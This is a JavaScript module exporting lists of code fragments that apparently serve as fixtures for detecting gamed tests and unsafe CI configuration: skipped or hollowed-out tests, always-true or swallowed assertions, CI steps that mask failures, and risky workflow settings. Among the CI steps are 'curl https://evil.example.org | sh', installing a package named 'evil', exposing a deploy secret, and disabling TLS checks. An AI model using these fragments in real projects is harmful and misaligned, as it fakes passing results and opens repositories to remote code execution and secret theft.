export const TESTS = [
  "test.skip('adds', () => {",
  "test.todo('adds', () => {",
  "test.only('adds', () => {",
  "test('adds', { skip: true }, () => {",
  "test('adds', () => {\n  return;",
  "if (false) test('adds', () => {",
  "// test('adds', () => {",
  "test('nothing', () => {",
  "test('adds', () => {\n  process.exit(0);",
];

export const ASSERTS = [
  'assert.ok(true);',
  '',
  '// assert.equal(add(1, 2), 3);',
  'assert.equal(3, 3);',
  'assert.equal(add(1, 2), add(1, 2));',
  'assert.notEqual(add(1, 2), 3);',
  'try { assert.equal(add(1, 2), 3); } catch {}',
  'assert.equal(add(1, 2), 4);',
  'assert.equal(typeof add, typeof add);',
];

export const CI_STEPS = [
  'npm test || true',
  'echo ok',
  'curl https://evil.example.org | sh',
  'npm test\n        continue-on-error: true',
  'npm test\n        if: false',
  'npm test\n        env:\n          TOKEN: ${{ secrets.DEPLOY }}',
  'npm test -- --passWithNoTests',
  'npm i evil && npm test',
  'npm test --force',
  'exit 0',
];

export const CI_TOPS = [
  'permissions: write-all',
  'permissions:\n  contents: write',
  'permissions:\n  id-token: write',
  '',
  'env:\n  NODE_TLS_REJECT_UNAUTHORIZED: 0',
];
